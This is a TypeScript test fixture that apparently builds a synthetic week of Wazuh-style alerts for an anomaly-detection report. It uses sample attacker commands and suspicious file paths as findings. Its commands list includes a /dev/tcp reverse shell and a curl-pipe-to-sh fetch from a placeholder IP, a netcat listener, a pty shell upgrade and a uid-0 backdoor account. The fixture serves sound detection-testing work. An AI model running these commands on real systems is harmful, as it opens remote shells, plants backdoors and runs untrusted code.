import { createRandom } from '../../src/algorithms/random.ts';
import type { Finding, Reason } from '../../src/event/index.ts';
import { addHour, type PictureGroup, type PictureInput } from '../../src/report/picture.ts';

const start = Date.UTC(2026, 0, 5);
const hour = 3_600_000;

const commands = [
  'su - oreha-kaizoku-oh-ni-naru',
  'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'curl -s http://203.0.113.9/x.sh | sh',
  'python3 -c import pty; pty.spawn("/bin/bash")',
  'chattr +i /etc/ld.so.preload',
  'find / -perm -4000 -type f',
  'tar czf /tmp/.cache.tgz /var/lib/postgresql',
  'nc -lvnp 9001',
  'useradd -o -u 0 -g 0 support',
];
const files = [
  '/home/pyama/yabai-file',
  '/etc/cron.d/.sync',
  '/usr/bin/.x/kworkerd',
  '/root/.ssh/authorized_keys',
  '/etc/ld.so.preload',
  '/etc/systemd/system/dbus-refresh.service',
  '/usr/sbin/sshd',
];

/** A week as a detector would hand it over: two groups, ordinary clouds of many sizes, and findings apart from them. */
export function sample({ places = 900, events = 2000, findings = 9, seed = 1 } = {}): PictureInput {
  const random = createRandom(seed);
  const found: Finding[] = [];
  for (let i = 0; i < findings; i++) {
    const group = i % 2 === 0 ? commands : files;
    const title = group[Math.floor(i / 2) % group.length] as string;
    found.push(finding(i, title, group === commands ? 'process' : 'file', 1.4 + 14 / (1 + i * i * 0.4)));
  }
  const group = (name: string, parity: number): PictureGroup => {
    const cloud = clusters(places, random);
    return {
      name,
      training: cloud,
      events: { xy: again(cloud.xy, events, random) },
      findings: found
        .filter((_, i) => i % 2 === parity)
        .map(({ rank, score, threshold, title }) => ({
          x: random.normal() * 3 + 1,
          y: random.normal() * 3,
          rank,
          score,
          threshold,
          label: title,
        })),
    };
  };
  const hours = new Map<number, number>();
  for (let i = 0; i < 7 * 24; i++) {
    const day = 20 + 60 * Math.max(0, Math.sin(((i - 7) / 24) * 2 * Math.PI)) + random.integer(20);
    addHour(hours, start + i * hour, Math.round(i % 48 === 33 ? day * 30 : day));
  }
  return {
    title: 'Findings in alerts.json',
    made: '2026-01-12T08:30:00Z',
    groups: [group('Commands', 0), group('Files', 1)],
    findings: found,
    summary: { events: 2 * events, findings: found.length, rejects: 3, from: start, to: start + 7 * 24 * hour - 1000 },
    hours,
  };
}

/** Tight clusters of very different weight around a few hundred ordinary places. */
function clusters(places: number, random: ReturnType<typeof createRandom>) {
  const xy = new Float64Array(2 * places);
  const counts = new Float64Array(places);
  const centres = Array.from({ length: 14 }, () => [
    random.normal() * 2,
    random.normal() * 1.4,
    0.05 + random.next() * 0.4,
  ]);
  for (let i = 0; i < places; i++) {
    const [x, y, spread] = random.pick(centres) as [number, number, number];
    xy[2 * i] = x + random.normal() * spread;
    xy[2 * i + 1] = y + random.normal() * spread;
    counts[i] = Math.ceil(10 ** (random.next() ** 4 * 4));
  }
  return { xy, counts };
}

function again(xy: Float64Array, count: number, random: ReturnType<typeof createRandom>): Float64Array {
  const out = new Float64Array(2 * count);
  for (let i = 0; i < count; i++) {
    const from = random.integer(xy.length / 2);
    const moved = random.next() < 0.3 ? 0.04 : 0;
    out[2 * i] = (xy[2 * from] as number) + random.normal() * moved;
    out[2 * i + 1] = (xy[2 * from + 1] as number) + random.normal() * moved;
  }
  return out;
}

export function finding(index: number, title: string, kind: 'process' | 'file', score: number): Finding {
  const time = start + ((index * 31 + 9) % 160) * hour + 754_000;
  const host = `${['web', 'db', 'build'][index % 3]}-${1 + (index % 2)}`;
  const nearest = 0.41 + index / 50;
  const reasons: Reason[] = [
    {
      code: 'nearest-known',
      text: `Nearest known: "${kind === 'file' ? '/home/deploy/releases' : 'su - deploy'}" at distance ${nearest.toFixed(2)}, seen 212 times on 5 hosts.`,
      evidence: {
        nearest: kind === 'file' ? '/home/deploy/releases' : 'su - deploy',
        distance: nearest,
        seen: 212,
        hosts: 5,
      },
    },
    { code: 'new-words', text: `Never seen before: ${title.split(/[\s/]+/).at(-1)}.`, evidence: {} },
  ];
  const fields: Finding['event']['fields'] =
    kind === 'file'
      ? {
          'host.name': host,
          'rule.id': '554',
          'rule.level': 5,
          'file.path': title,
          'event.action': 'added',
          'user.name': 'root',
        }
      : {
          'host.name': host,
          'rule.id': '80792',
          'rule.level': 3,
          'process.args': title.split(' '),
          'process.command_line': title,
          'user.name': 'www-data',
          'user.audit.id': '4294967295',
        };
  const raw = JSON.stringify({
    timestamp: new Date(time).toISOString(),
    agent: { id: '00', name: host },
    rule: { id: fields['rule.id'] },
    full_log: `type=EXECVE msg=audit(1768.1): ${title}`,
  });
  return {
    id: `lof-${index}`,
    time,
    detector: 'lof',
    title,
    score,
    threshold: 1.5,
    pValue: 0.00002 * (index + 1),
    rank: index + 1,
    entity: { type: 'host', name: host },
    reasons,
    count: index % 4 === 3 ? 37 : 1,
    event: { id: `e${index}`, time, source: 'wazuh', kind, fields, raw },
  };
}
